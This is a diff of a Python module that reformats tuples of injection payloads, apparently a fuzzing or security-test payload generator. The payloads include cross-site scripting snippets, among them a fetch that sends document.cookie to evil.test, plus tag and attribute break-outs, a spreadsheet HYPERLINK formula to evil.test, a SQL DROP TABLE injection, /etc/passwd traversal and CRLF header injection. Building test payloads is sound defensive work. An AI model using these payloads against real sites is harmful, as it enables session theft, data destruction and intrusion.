@@ -4,7 +4,12 @@ from __future__ import annotations
 
 from itertools import product
 
-_CALLS = ("alert(1)", "fetch('https://evil.test/'+document.cookie)", "location='https://evil.test'", "import('//evil.test')")
+_CALLS = (
+    "alert(1)",
+    "fetch('https://evil.test/'+document.cookie)",
+    "location='https://evil.test'",
+    "import('//evil.test')",
+)
 _TAGS = (
     "<script>{c}</script>",
     "<ScRiPt>{c}</sCrIpT>",
@@ -34,7 +39,20 @@ _TAGS = (
     "<![CDATA[<script>{c}</script>]]>",
     "<zz-marker zz-attr={c}>",
 )
-_BREAKS = ("", '"', "'", '">', "'>", "</textarea>", "</title>", "</script>", "--></style>", "</option></select>", "\\\"", "`")
+_BREAKS = (
+    "",
+    '"',
+    "'",
+    '">',
+    "'>",
+    "</textarea>",
+    "</title>",
+    "</script>",
+    "--></style>",
+    "</option></select>",
+    '\\"',
+    "`",
+)
 _ATTRIBUTES = (
     '{b} onmouseover={c} zz-a="',
     '{b} autofocus onfocus={c} zz-b="',
@@ -70,7 +88,7 @@ _OTHERS = (
     "-{c}",
     "@SUM({c})",
     "\t={c}",
-    "＝HYPERLINK(\"https://evil.test\",\"{c}\")",
+    '＝HYPERLINK("https://evil.test","{c}")',
     "'; DROP TABLE accounts_user; -- {c}",
     "../../../etc/passwd{c}",
     "\r\nSet-Cookie: zz={c}",
